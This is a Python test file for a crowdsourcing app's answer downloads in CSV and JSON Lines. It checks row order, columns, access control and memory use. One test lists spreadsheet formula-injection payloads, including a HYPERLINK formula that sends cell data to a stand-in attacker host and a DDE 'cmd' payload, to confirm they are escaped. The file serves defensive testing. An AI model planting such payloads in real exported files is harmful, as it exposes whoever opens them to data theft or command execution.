"""Answers downloaded from the requester's pages, and the order in which they stand."""

import csv
import io
import json
import tracemalloc
from typing import Any

import pytest

from local_crowd.app import create_app
from local_crowd.operations.people import requesters
from local_crowd.pages.people import passwords
from tests.support.requester_sites import (
    BATCH,
    PASSWORD,
    Requester,
    RequesterWorld,
    page_with_input,
)
from tests.support.script_fixtures import Desk
from tests.support.worker_sites import words

BATCH_PAGE = f"/requester/batches/{BATCH}"


def table(lab: Requester, query: str = "") -> list[dict[str, str]]:
    """The rows of the CSV file."""
    file = lab.get(f"{BATCH_PAGE}/answers.csv{query}")
    assert file.status_code == 200
    return list(csv.DictReader(io.StringIO(file.get_data(as_text=True), newline="")))


def lines(lab: Requester, query: str = "") -> list[dict[str, Any]]:
    """The objects of the JSON Lines file."""
    file = lab.get(f"{BATCH_PAGE}/answers.jsonl{query}")
    return [json.loads(line) for line in file.get_data(as_text=True).splitlines()]


def test_everything_stands_in_the_order_of_the_input(world: RequesterWorld) -> None:
    """HITs are launched many at a time, so the order in which they were made is by chance."""
    rows = [3, 10, 0, 2, 1]
    hits = {row: world.row(row, MaxAssignments=2) for row in rows}
    for row in (10, 1, 0, 3, 2):
        world.do(hits[row], word=f"answer to {row}")
    world.do(hits[0], "Ben", word="second answer to 0")
    lab = world.member()
    expected = [0, 0, 1, 2, 3, 10]

    batch = words(lab.get(BATCH_PAGE))
    answers = words(lab.get(f"{BATCH_PAGE}/answers"))
    for text, heads in ((batch, [f"{n} {hits[n]['HITId']}" for n in sorted(rows)]),
                        (answers, [f"Row {n} HIT" for n in sorted(rows)])):  # fmt: skip
        places = [text.index(head) for head in heads]
        assert places == sorted(places)
    assert [line["row"] for line in lines(lab)] == expected
    assert [int(line["row"]) for line in table(lab)] == expected


def test_json_lines_are_what_get_results_writes(desk: Desk) -> None:
    """The same keys and values, so that whatever reads the one reads the other."""
    ids = desk.launch({"n": 1, "tags": ["a"]}, "text", 3)
    crowd = desk.crowd()
    ada, ben = crowd.make_worker("Ada"), crowd.make_worker("Ben")
    crowd.do(ada, ids[2], [("output", '{"animal": "cat", "x": [1, 2.5]}'), ("more", "x|y")])
    done = crowd.do(ben, ids[2], [("output", "not JSON \ud83d\ude00")])
    crowd.do(ada, ids[0], [("word", "é\n<b>")])
    crowd.client.reject_assignment(AssignmentId=done, RequesterFeedback="No")
    desk.clock.advance(60)
    with crowd.site.writing() as call:
        requesters.set_password(call, "local", passwords.hash_password(PASSWORD))
    results = desk.run("get_results", "--hit_ids_file=hit_ids.txt", "--rejected").lines
    batch = json.loads((desk.folder / "hit_ids.batch.jsonl").read_text().splitlines()[0])["batch"]
    app = create_app(desk.folder / "crowd", desk.clock)
    lab = Requester(app)
    assert lab.enter("local", PASSWORD).status_code == 303

    file = lab.get(f"/requester/batches/{batch}/answers.jsonl")
    app.close()

    assert len(results) == 3
    assert [json.loads(line) for line in file.get_data(as_text=True).splitlines()] == results
    assert file.headers["Content-Disposition"] == f'attachment; filename="{batch}.jsonl"'


def test_csv_has_a_column_for_each_field(world: RequesterWorld) -> None:
    """Of the input, of the answer's form, and of what is a JSON object in it; a trace is none."""
    trace = {"_trace": '{"seconds": 20}'}
    world.do(world.row(0), output='{"animal": "cat", "box": {"x": 1}}', **trace, sure="yes")
    world.do(world.row(1, html=page_with_input({"ask": "What?"})), "Ben", word='a "b", c\nd')
    first, second = table(world.member())

    assert list(first)[-8:] == [
        "requester_feedback",
        "input.picture",
        "input.ask",
        "answer.output.animal",
        "answer.output.box",
        "answer.sure",
        "answer.word",
        "_trace",
    ]
    assert first["_trace"] == '{"seconds": 20}'
    assert lines(world.member())[0]["_trace"] == {"seconds": 20}
    assert first["input.picture"] == "/files/1.jpg"
    assert first["answer.output.box"] == '{"x": 1}'
    assert (first["answer.word"], second["answer.word"]) == ("", 'a "b", c\nd')
    assert (second["input.ask"], second["row"], second["status"]) == ("What?", "1", "Submitted")
    assert second["submit_time"] == "2026-01-01T00:01:20Z"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
        ("+1-1", "'+1-1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\n=1", "'\n=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-5", "-5"),
        ("+49.5e3", "+49.5e3"),
        ("a=1", "a=1"),
    ],
)
def test_no_cell_is_a_formula(world: RequesterWorld, text: str, cell: str) -> None:
    """A worker's text gets a ' in front, in the names of columns too; numbers stay numbers."""
    hit = world.row(html=page_with_input({"given": text}))
    world.do(hit, word=text, output=json.dumps({"x": text}), **{text: "name"})
    (row,) = table(world.member())

    assert row["answer.word"] == row["answer.output.x"] == row["input.given"] == cell
    assert not [name for name in row if name[:1] in "=+-@\t\n"]


@pytest.mark.parametrize(
    "fields",
    [
        {"output": "[" * 100_000},
        {"output": "[" * 900 + "]" * 900},
        {"output": '{"\\ud800": "\\udfff", "n": 1e999}'},
        {"output": '{"\\ud800": "\\udfff\\u0000"}'},
        {"output": "{" + ",".join(f'"k{n}": {n}' for n in range(3000)) + "}"},
        {f"field{n}": str(n) for n in range(3000)},
        {"output": '{"x": "1"}', "output.x": "2", "output.x*": "3"},
        {"": "", ".": "="},
    ],
)
def test_hostile_answers_are_downloaded_whole(
    world: RequesterWorld, fields: dict[str, str]
) -> None:
    """Nothing is lost of an answer, however many fields it has, and the files stay readable."""
    world.do(world.row(), **fields)
    lab = world.member()
    (line,), (row,) = lines(lab), table(lab)

    assert line["answers"] == fields
    cells = [cell for name, cell in row.items() if name.startswith("answer")]
    if "more" in row:
        cells += json.loads(row["more"]).values()
    if all(name.startswith("field") for name in fields):
        assert len(row) == 11 + 1000 + 1  # the first columns, the most there can be, and `more`
        assert sorted(map(int, cells)) == list(range(3000))
    if "output.x" in fields:
        assert sorted(cells) == ["1", "2", "3"]


def test_a_download_has_the_answers_of_its_tab(world: RequesterWorld) -> None:
    """All by default; the page links to what it shows."""
    ids = [world.do(world.row(n)) for n in range(3)]
    world.perform("ApproveAssignment", AssignmentId=ids[1])
    lab = world.member()

    assert [line["assignment_id"] for line in lines(lab)] == ids
    assert [line["assignment_id"] for line in lines(lab, "?show=approved")] == ids[1:2]
    assert [row["assignment_id"] for row in table(lab, "?show=to_review")] == [ids[0], ids[2]]
    assert (
        f"{BATCH}/answers.csv?show=approved" in lab.get(f"{BATCH_PAGE}/answers?show=approved").text
    )
    for page in ("csv?show=x", "jsonl?show=x"):
        assert lab.get(f"{BATCH_PAGE}/answers.{page}").status_code == 404


@pytest.mark.parametrize("ending", ["csv", "jsonl"])
def test_downloads_are_the_requesters_alone(world: RequesterWorld, ending: str) -> None:
    """Another requester finds nothing, and a worker is sent to sign in."""
    world.do(world.row())
    address = f"{BATCH_PAGE}/answers.{ending}"

    assert world.member("Rivals").get(address).status_code == 404
    assert world.visitor("Ada").get(address).status_code == 303
    file = world.member().get(address)
    assert file.headers["Content-Security-Policy"] == "sandbox"
    assert file.headers["Cache-Control"] == "no-store"
    assert file.headers["Content-Disposition"].startswith("attachment")


@pytest.mark.parametrize("ending", ["csv", "jsonl"])
def test_memory_stays_flat(world: RequesterWorld, ending: str) -> None:
    """Sixty megabytes of answers are sent with a fifth of that in memory."""
    text = "x" * 500_000
    for number in range(120):
        world.do(world.row(number), word=text)
    lab = world.member()
    tracemalloc.start()
    file = lab.client.get(f"/sandbox{BATCH_PAGE}/answers.{ending}", buffered=False)
    sent = sum(len(part) for part in file.response)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    file.close()

    assert sent > 120 * 500_000
    assert peak < sent / 5
